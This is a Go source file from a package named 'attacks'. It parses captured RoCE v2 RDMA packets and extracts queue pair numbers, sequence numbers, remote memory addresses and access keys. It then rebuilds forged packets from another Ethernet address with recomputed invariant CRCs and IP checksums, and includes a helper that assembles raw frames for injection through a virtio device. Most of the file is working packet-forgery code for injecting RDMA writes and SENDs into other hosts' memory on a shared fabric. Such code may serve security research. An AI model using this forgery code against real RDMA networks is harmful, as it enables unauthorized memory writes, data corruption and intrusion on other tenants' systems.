package attacks

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"net"
	"slices"
)

// Offsets in an Ethernet frame with RoCE v2 over IPv4 without options, and sizes of headers.
const (
	ipAt      = 14
	udpAt     = ipAt + 20
	bthAt     = udpAt + 8
	rethAt    = bthAt + 12 // or the data of a SEND
	immAt     = rethAt + 16
	writtenAt = immAt + 4 // data of a write
	icrcBytes = 4
	vnetBytes = 10 // virtio_net_hdr
)

const (
	rocePort       = 4791
	sendOnly       = 0x04 // opcode RC SEND Only
	writeOnlyImm   = 0x0b // opcode RC RDMA WRITE Only with Immediate
	psnMask        = 1<<24 - 1
	acknowledgeBit = 1 << 31 // above the sequence number
)

// Transfer is an RDMA write with immediate data, or a SEND, that is one RoCE v2 packet. Somebody else on
// the fabric learns from it all that a forged one needs.
type Transfer struct {
	frame   []byte // the packet, with Ethernet header and ICRC
	QueueTo uint32 // number of the receiving queue pair
	PSN     uint32
	Data    []byte
	// Of a write.
	Addr uint64
	Key  uint32
	Imm  uint32
}

// IsRoCE reports whether an Ethernet frame is a RoCE v2 packet over IPv4.
func IsRoCE(frame []byte) bool {
	return len(frame) >= rethAt+icrcBytes && binary.BigEndian.Uint16(frame[12:]) == 0x0800 && frame[ipAt] == 0x45 &&
		frame[ipAt+9] == 17 && binary.BigEndian.Uint16(frame[udpAt+2:]) == rocePort
}

// ParseTransfer returns the transfer in an Ethernet frame, if it is one whose ICRC is correct.
func ParseTransfer(frame []byte) (t Transfer, ok bool) {
	if !IsRoCE(frame) || frame[bthAt] != sendOnly && frame[bthAt] != writeOnlyImm {
		return t, false
	}
	total := ipAt + int(binary.BigEndian.Uint16(frame[ipAt+2:])) // Ethernet may pad
	at, end := dataAt(frame), total-icrcBytes
	size := end - at - int(frame[bthAt+1]>>4&3) // without the pad
	if total > len(frame) || size < 0 {
		return t, false
	}
	frame = slices.Clone(frame[:total])
	if binary.LittleEndian.Uint32(frame[end:]) != icrc(frame[ipAt:end]) {
		return t, false
	}
	t = Transfer{
		frame:   frame,
		QueueTo: binary.BigEndian.Uint32(frame[bthAt+4:]) & psnMask,
		PSN:     binary.BigEndian.Uint32(frame[bthAt+8:]) & psnMask,
	}
	if !t.Sent() {
		t.Addr, t.Key = binary.BigEndian.Uint64(frame[rethAt:]), binary.BigEndian.Uint32(frame[rethAt+8:])
		t.Imm = binary.BigEndian.Uint32(frame[immAt:])
		if binary.BigEndian.Uint32(frame[rethAt+12:]) != uint32(size) {
			return Transfer{}, false
		}
	}
	t.Data = frame[at : at+size]
	return t, true
}

// dataAt returns where the data of a transfer begins.
func dataAt(frame []byte) int {
	if frame[bthAt] == sendOnly {
		return rethAt
	}
	return writtenAt
}

// Sent reports whether the transfer is a SEND.
func (t *Transfer) Sent() bool { return t.frame[bthAt] == sendOnly }

// To returns the address to which the packet of the transfer was sent.
func (t *Transfer) To() net.IP { return net.IP(t.frame[ipAt+16 : ipAt+20]) }

// Packet returns the Ethernet frame of the transfer, from another Ethernet address. The other addresses
// are those of the packet that the transfer was parsed from.
func (t *Transfer) Packet(from net.HardwareAddr) []byte {
	f := slices.Concat(t.frame[:dataAt(t.frame)], t.Data, make([]byte, -len(t.Data)&3))
	copy(f[6:], from)
	f[bthAt+1] = f[bthAt+1]&^0x30 | byte(-len(t.Data)&3)<<4 // pad count
	binary.BigEndian.PutUint32(f[bthAt+4:], t.QueueTo)
	binary.BigEndian.PutUint32(f[bthAt+8:], t.PSN|acknowledgeBit)
	if !t.Sent() {
		binary.BigEndian.PutUint64(f[rethAt:], t.Addr)
		binary.BigEndian.PutUint32(f[rethAt+8:], t.Key)
		binary.BigEndian.PutUint32(f[rethAt+12:], uint32(len(t.Data)))
		binary.BigEndian.PutUint32(f[immAt:], t.Imm)
	}
	binary.BigEndian.PutUint16(f[udpAt+4:], uint16(len(f)+icrcBytes-udpAt))
	finishIP(f[ipAt:], icrcBytes)
	return binary.LittleEndian.AppendUint32(f, icrc(f[ipAt:]))
}

// icrc returns the invariant CRC of an IPv4 packet without it: fields that routers may change count
// as ones, and so does the header that InfiniBand has in place of IP.
func icrc(packet []byte) uint32 {
	const before, bth = 8, 28
	b := slices.Concat(bytes.Repeat([]byte{0xff}, before), packet)
	for _, at := range []int{1, 8, 10, 11, 20 + 6, 20 + 7, bth + 4} { // TOS, TTL, both checksums, congestion marks
		b[before+at] = 0xff
	}
	return crc32.ChecksumIEEE(b)
}

// Datagram returns what an element contains for a UDP datagram over IPv4: an empty virtio_net_hdr,
// and the Ethernet frame.
func Datagram(from, to net.HardwareAddr, src, dst *net.UDPAddr, payload []byte) []byte {
	ip := make([]byte, 20+8, 20+8+len(payload))
	ip[0], ip[8], ip[9] = 0x45, 64, 17
	copy(ip[12:], src.IP.To4())
	copy(ip[16:], dst.IP.To4())
	binary.BigEndian.PutUint16(ip[20:], uint16(src.Port))
	binary.BigEndian.PutUint16(ip[22:], uint16(dst.Port))
	binary.BigEndian.PutUint16(ip[24:], uint16(8+len(payload)))
	ip = append(ip, payload...)
	finishIP(ip, 0)
	return slices.Concat(make([]byte, vnetBytes), to, from, []byte{0x08, 0x00}, ip)
}

// finishIP sets length and checksum of an IPv4 packet to which some bytes will be appended.
func finishIP(packet []byte, more int) {
	binary.BigEndian.PutUint16(packet[2:], uint16(len(packet)+more))
	packet[10], packet[11] = 0, 0
	var sum uint32
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(packet[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	binary.BigEndian.PutUint16(packet[10:], ^uint16(sum))
}
